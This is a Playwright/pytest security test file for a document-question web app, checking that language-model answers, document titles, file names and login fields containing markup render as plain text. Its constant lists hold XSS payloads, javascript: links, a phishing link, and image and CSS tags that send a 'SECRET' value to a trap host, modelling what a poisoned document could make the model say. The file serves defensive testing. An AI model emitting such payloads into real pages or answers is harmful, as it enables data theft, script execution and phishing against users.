"""D1, D3, D4 and the browser's half of D7: what a model, a document or a name holds is text, in a real browser.

A page may show any of it; it must not fetch, run, or lead anywhere by it. The server and the browser are real, the language
model says what a poisoned document would make it say.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, FilePayload, Page, expect

from app.ui.format import answer_markdown
from tests.documents import SHARED, needs_shared
from tests.log_canaries import CANARIES
from tests.security.deployed import Site, Trap, Witness, enter, new_email, note, of_browser, settled

SECURITY = SHARED / "security"
TITLE_LENGTH, CONVERSATION_TITLE_LENGTH = 300, 200

IMAGES = (
    "![logo]({0}/inline?d=SECRET)",
    "![logo][there]\n\n[there]: {0}/reference?d=SECRET",
    "[![logo]({0}/linked?d=SECRET)]({0}/link?d=SECRET)",
    '<img src="{0}/img?d=SECRET">',
    '<img srcset="{0}/srcset?d=SECRET 2x">',
    '<svg><image href="{0}/svg?d=SECRET"/></svg>',
    '<div style="background:url({0}/style?d=SECRET)">styled</div>',
    "<style>@import url({0}/import?d=SECRET); body {{background: url({0}/css?d=SECRET)}}</style>",
    '<link rel="stylesheet" href="{0}/link-element?d=SECRET">',
    '<video poster="{0}/poster?d=SECRET"></video><audio src="{0}/audio?d=SECRET" autoplay></audio>',
    '<iframe src="{0}/frame?d=SECRET"></iframe><object data="{0}/object?d=SECRET"></object>',
    '<meta http-equiv="refresh" content="0;url={0}/refresh?d=SECRET">',
    "![no scheme](//{1}/no-scheme?d=SECRET)",
    "![own proxy](/app/gradio_api/file={0}/proxy?d=SECRET) ![other](/app/gradio_api/proxy={0}/proxy2?d=SECRET)",
    "`![in code]({0}/code?d=SECRET)`",
    "```html\n<img src={0}/fence?d=SECRET>\n```",
    "| a |\n|---|\n| ![cell]({0}/cell?d=SECRET) |",
)
LINKS = (
    "[script](javascript:alert(1))",
    "[script](JaVaScRiPt&colon;alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[long]({0}/?d=" + "SECRET" * 300 + ")",
    "<a href='javascript:alert(1)'>anchor</a>",
    "[reference][there]\n\n[there]: javascript:alert(1)",
    "<{0}/auto?d=SECRET>",
    "{0}/bare?d=SECRET and www.example.org/bare and someone@example.org",
    "[your bank]({0}/phish)",
)
DIAGRAMS = (
    "```mermaid\ngraph LR\nA[<img src=x onerror=alert(1)>] --> B\n```",
    "$$\\href{{javascript:alert(1)}}{{x}}$$ and \\(\\url{{javascript:alert(1)}}\\)",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)
# Everything in the conversation that could fetch, run or lead away. What stands there of ours has none of it.
ALIVE = """() => [...document.querySelectorAll('#chat .message, #own, #industry, #conversations')].flatMap((place) =>
  [...place.querySelectorAll('*')].filter((one) =>
    // A list's own search, which leads nowhere, and the way to a document's own file.
    !(one === place.querySelector('form.filters') && !one.hasAttribute('action'))
    && !(one.download !== undefined && /^[/]api[/]documents[/][0-9a-f-]{36}[/]file$/.test(one.getAttribute('href')))
  ).filter((one) =>
    ['IMG', 'IMAGE', 'SCRIPT', 'STYLE', 'LINK', 'META', 'IFRAME', 'OBJECT', 'EMBED', 'VIDEO', 'AUDIO', 'FORM', 'BASE', 'MATH']
      .includes(one.tagName.toUpperCase())
    || [...one.attributes].some((held) => held.name.startsWith('on') || held.name === 'srcdoc' || held.name === 'srcset')
    || (one.hasAttribute('href') && !(one.rel.includes('noopener') && one.rel.includes('noreferrer')
        && /^https?:$/.test(one.protocol) && one.textContent.includes(one.host)))
    || /url\\(/.test(one.getAttribute('style') || '')
  ).map((one) => one.outerHTML.slice(0, 200)))"""


@pytest.fixture(scope="module")
def signed_in(site: Site, chromium: Browser) -> Iterator[BrowserContext]:
    """With one document about a term that questions find."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    enter(context.new_page(), site, new_email())
    with of_browser(context, site) as client:
        note(client, "Management agreement", "The term of the management agreement is two years from today.")
    yield context
    context.close()


@pytest.fixture
def page(signed_in: BrowserContext) -> Iterator[Page]:
    """A tab of its own for every test: Gradio tells the console of a stream that the end of a page cut off."""
    opened = signed_in.new_page()
    yield opened
    opened.close()


@pytest.fixture
def client(page: Page, site: Site) -> Iterator[httpx.Client]:
    with of_browser(page.context, site) as opened:
        yield opened
    site.llm.script()


@pytest.fixture
def witness(page: Page, site: Site) -> Witness:
    seeing = Witness(site.url)
    seeing.watch(page)
    return seeing


def answered(client: httpx.Client, conversation: str, question: str = "What is the term of my agreement?") -> str:
    answer = client.post("/api/messages", json={"conversation": conversation, "text": question})
    assert answer.status_code == 200, answer.text
    assert answer.json()["state"] == "answered", answer.text
    return str(answer.json()["text"])


def conversation(client: httpx.Client, title: str | None = None) -> str:
    made = client.post("/api/conversations", json={"title": title} if title else {})
    assert made.status_code == 201, made.text
    return str(made.json()["id"])


def show(page: Page, site: Site, chosen: str) -> None:
    page.goto(f"{site.url}/static/auth.css")  # of this origin, without a stream; the chat opens what the tab remembers
    page.evaluate("id => sessionStorage.setItem('aim.conversation', id)", chosen)
    page.goto(f"{site.url}/app/")
    expect(page.locator("#chat .message").first).to_be_visible(timeout=30_000)
    page.wait_for_timeout(500)  # whatever a page would fetch by itself it asks for by now


def list_whole(page: Page) -> None:
    """Show every document, not only the newest."""
    rows, more = page.locator("#own li.document"), page.locator("#own .more")
    expect(rows.first).to_be_visible(timeout=30_000)
    while more.is_visible():
        shown = rows.count()
        more.click()
        expect(rows.nth(shown)).to_be_visible(timeout=30_000)


def test_d1_no_answer_makes_the_browser_ask_anybody(
    page: Page, site: Site, trap: Trap, client: httpx.Client, witness: Witness
) -> None:
    chosen = conversation(client)
    for image in IMAGES:
        site.answers(image.format(trap.origin, trap.origin.removeprefix("http://")) + " [P1].")
        answered(client, chosen)
    show(page, site, chosen)
    page.get_by_role("button", name="Show earlier messages").click()
    bubbles = page.get_by_test_id("bot")
    expect(bubbles.filter(has_text=f"![logo]({trap.origin}/inline?d=SECRET)").first).to_be_visible()
    expect(
        bubbles.filter(has_text=f"![no scheme](//{trap.origin.removeprefix('http://')}/no-scheme").first
    ).to_be_visible()
    expect(bubbles.filter(has_text=f'<img src="{trap.origin}/img?d=SECRET">').first).to_be_visible()
    assert page.evaluate(ALIVE) == []
    assert (trap.asked, witness.seen) == ([], [])


def test_d1_d3_nor_while_it_is_written(
    page: Page, site: Site, trap: Trap, client: httpx.Client, witness: Witness
) -> None:
    """Beginnings of an answer are drawn too, several times a second."""
    whole = "\n\n".join((*IMAGES, *LINKS, *DIAGRAMS)).format(trap.origin, trap.origin.removeprefix("http://"))
    site.answers(whole + " [P1].", token_seconds=0.03)
    page.goto(f"{site.url}/app/")
    page.get_by_role("textbox", name="Your question").fill("What is the term of my agreement?")
    page.get_by_role("textbox", name="Your question").press("Enter")
    looks, alive = 0, []
    while page.locator("#chat details.source").count() == 0:  # they come with the end
        looks += page.get_by_test_id("bot").filter(has_text="![logo](").count()
        alive += page.evaluate(ALIVE)
        page.wait_for_timeout(50)
    expect(page.get_by_test_id("bot").filter(has_text="[your bank](").first).to_be_visible()
    assert looks > 5
    assert alive == []
    assert (trap.asked, witness.seen) == ([], [])


def test_d3_links_are_text(page: Page, site: Site, trap: Trap, client: httpx.Client, witness: Witness) -> None:
    chosen = conversation(client)
    for link in (*LINKS, *DIAGRAMS):
        site.answers(link.format(trap.origin) + " [P1].")
        answered(client, chosen)
    show(page, site, chosen)
    expect(page.get_by_test_id("bot").filter(has_text="[script](javascript:alert(1))").first).to_be_visible()
    expect(page.get_by_test_id("bot").filter(has_text=f"[your bank]({trap.origin}/phish)").first).to_be_visible()
    assert page.evaluate(ALIVE) == []
    assert (trap.asked, witness.seen) == ([], [])


def strings(name: str) -> list[str]:
    rows = json.loads((SECURITY / name).read_text(encoding="utf-8"))
    texts = [row if isinstance(row, str) else row["text"] for row in rows]
    return [text.replace("\0", "") for text in texts if text.strip()]


def packed(texts: list[str], length: int) -> list[str]:
    """As many of the texts as fit together into each of few; none is cut."""
    packs: list[str] = [""]
    for text in texts:
        if len(text) > length:
            continue
        if len(packs[-1]) + len(text) + 1 > length:
            packs.append("")
        packs[-1] = f"{packs[-1]} {text}".strip()
    return packs


@needs_shared
def test_d4_stored_markup_stays_text_everywhere(
    page: Page, site: Site, client: httpx.Client, witness: Witness, tmp_path: Path
) -> None:
    markup, naughty = strings("xss_markup_strings_dev.json"), strings("blns.json")
    client.put("/api/profile", json={"artist_name": markup[0], "bio": " ".join(markup)[:2000], "goals": markup[1]})
    body = "\n".join(["The term of the recording agreement is three years.", *markup, *naughty])
    (tmp_path / "x").write_text(body, encoding="utf-8")
    hostile = "<img src=x onerror=alert(1)>'\"&lt;svg onload=alert(2)>.txt"
    with (tmp_path / "x").open("rb") as source:
        taken = client.post("/api/documents", files={"file": (hostile, source)})
    assert settled(client, taken.json()["id"])["status"] == "ready"
    titles = packed(markup, TITLE_LENGTH)
    for title in titles[:1]:
        assert client.patch(f"/api/documents/{taken.json()['id']}", json={"title": title}).status_code == 200
    for number, title in enumerate(titles[1:]):
        made = client.post("/api/documents/notes", json={"title": title, "text": f"Note number {number}."})
        assert made.status_code == 202, made.text
    for title in packed([*markup, *naughty], CONVERSATION_TITLE_LENGTH)[:60]:
        made = client.post("/api/conversations", json={"title": title})
        assert made.status_code == 201, made.text
    chosen = conversation(client, markup[0])
    # The whole text is cited passage by passage, and the question is markup as well.
    site.answers("It is all quoted [P1] [P2] [P3] [P4] [P5] [P6].")
    for text in ("What is the term of my recording agreement?", *packed(markup, 1500)[:8], *packed(naughty, 1500)[:8]):
        site_says = client.post(
            "/api/messages", json={"conversation": chosen, "text": text, "documents": [taken.json()["id"]]}
        )
        assert site_says.status_code == 200, site_says.text
    show(page, site, chosen)
    for summary in page.locator("#chat details.source summary").all()[:12]:
        summary.click()
    assert page.locator("#chat details.source[open] blockquote").count() > 3
    assert page.evaluate(ALIVE) == []
    page = witness.watch(page.context.new_page())
    page.goto(f"{site.url}/app/knowledge")
    list_whole(page)
    assert page.locator("#own li.document").count() >= len(titles)
    page.wait_for_timeout(500)
    assert page.evaluate(ALIVE) == []
    assert witness.seen == []


def test_d4_a_file_name_in_the_drop_area_is_text(
    page: Page, site: Site, client: httpx.Client, witness: Witness
) -> None:
    page.goto(f"{site.url}/app/")
    hostile = "<img src=x onerror=alert(1)><svg onload=alert(2)>.exe"
    for name in (hostile, hostile.replace(".exe", ".txt")):
        file: FilePayload = {"name": name, "mimeType": "text/plain", "buffer": b"Nothing in particular."}
        page.locator("#chat-drop input[type=file]").set_input_files([file])
    expect(page.locator("#chat-drop li.failed")).to_contain_text(hostile, timeout=20_000)
    assert page.locator("#chat-drop li img, #chat-drop li svg").count() == 0
    assert witness.seen == []


def test_d4_an_address_typed_at_the_door_is_text(site: Site, chromium: Browser) -> None:
    context, witness = chromium.new_context(), Witness(site.url)
    page = witness.watch(context.new_page())
    for path, button in (("login", "Sign in"), ("register", "Create account")):
        page.goto(f"{site.url}/{path}")
        page.locator("input[name=email]").evaluate("one => one.type = 'text'")  # a browser's own check is no defence
        page.locator("input[name=email]").fill('"><script>alert(1)</script>@example.com')
        page.get_by_label("Password").fill(CANARIES["password"])
        page.get_by_role("button", name=button, exact=True).click()
        page.wait_for_load_state()
        assert page.locator("input[name=email]").input_value() == '"><script>alert(1)</script>@example.com'
        assert page.locator("script").evaluate_all("all => all.map((one) => one.getAttribute('src'))") == [
            "/static/auth.js"
        ]
    # The refusal itself (401, 422) is told on the console by the browser; nothing else may be.
    assert [seen for seen in witness.seen if "the server responded with a status of 4" not in seen] == []
    context.close()


@needs_shared
def test_d4_nothing_of_markup_survives_the_formatting() -> None:
    """Quick, and for strings the browser test cannot all show: no tag but ours, no link, no image."""
    for text in [*strings("xss_markup_strings_dev.json"), *strings("blns.json")]:
        html = answer_markdown(text).replace("<pre>", "").replace("</pre>", "").replace("<br>", "")
        html = html.replace("<code>", "").replace("</code>", "")
        assert "<" not in html, text
        assert "[" not in html, text


def test_d7_the_main_job_works_under_these_policies(
    page: Page, site: Site, client: httpx.Client, witness: Witness
) -> None:
    """Ask, see the source, look at the documents: no error on the console, nothing refused by a policy."""
    site.llm.script()
    page.goto(f"{site.url}/app/")
    page.get_by_role("textbox", name="Your question").fill("What is the term of my management agreement?")
    page.get_by_role("textbox", name="Your question").press("Enter")
    expect(page.get_by_role("log")).to_contain_text("two years", timeout=30_000)
    expect(page.locator("#chat details.source summary").first).to_contain_text("page 1", timeout=30_000)
    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=30_000)
    page.wait_for_timeout(300)
    page.get_by_role("link", name="Knowledge").click()
    list_whole(page)
    expect(page.locator("#own")).to_contain_text("Management agreement")
    assert witness.seen == []
    assert len(witness.asked) > 20
